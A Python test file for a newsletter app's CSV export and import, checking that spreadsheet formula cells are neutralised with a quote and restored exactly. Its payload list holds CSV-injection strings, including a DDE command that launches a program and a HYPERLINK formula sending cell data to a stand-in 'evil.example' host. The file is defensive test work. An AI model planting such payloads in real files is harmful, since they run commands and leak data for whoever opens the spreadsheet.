"""CSV cells a spreadsheet never runs: neutralised on export, restored on import, exactly."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from newsletter.files.spreadsheet import imported, neutralise, restore

# The payloads OWASP lists, and names people really have that start the same way.
HOSTILE = [
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("https://evil.example?"&A1,"click")',
]


@pytest.mark.parametrize("cell", HOSTILE)
def test_formula_cells_are_prefixed_with_a_quote(cell):
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["Sam", "O'Brien", "'Tis", "", "sam@example.com", "2026-12-01"])
def test_other_cells_are_left_alone(cell):
    assert neutralise(cell) == cell


def test_quotes_before_a_formula_get_one_more():
    assert neutralise("'=1") == "''=1"  # so that import can tell it from a neutralised "=1"
    assert restore("''=1") == "'=1"
    assert restore("'=1") == "=1"
    assert restore("'Tis") == "'Tis"  # a quote before anything else is the name itself


# Text with many quotes and formula characters at the start, where the two could be confused.
_cells = st.text(st.sampled_from("'=+-@\t\r aZ1é;\""), max_size=8) | st.text(max_size=20)


@given(_cells)
def test_restore_undoes_neutralise_for_every_string(cell):
    assert restore(neutralise(cell)) == cell


@given(_cells)
def test_nothing_exported_starts_a_formula(cell):
    assert neutralise(cell)[:1] not in set("=+-@\t\r")


@pytest.mark.parametrize(
    ("raw", "stored"),
    [
        ("'=cmd|' /C calc'!A0", "=cmd|' /C calc'!A0"),  # our own export, restored
        ("  Sam  ", "Sam"),
        (" -Bob", "-Bob"),  # spaces in front of a name are just spaces
        ("\t=1+1", "'=1+1"),  # trimming a tab must not arm the formula behind it
        ("\r\n+1+2", "'+1+2"),
        ("\x1b@SUM(A1)", "'@SUM(A1)"),
        ("\tSam", "Sam"),
        ("'-2+3", "-2+3"),
        ("''-2+3", "'-2+3"),
    ],
)
def test_imported_cells(raw, stored):
    assert imported(raw) == stored


@given(_cells)
def test_import_never_uncovers_a_formula(cell):
    """Whatever trimming removed, a formula in the stored text was in the file as such."""
    stored = imported(cell)
    if stored[:1] and stored[0] in "=+-@":
        assert restore(cell).lstrip(" ").startswith(stored)
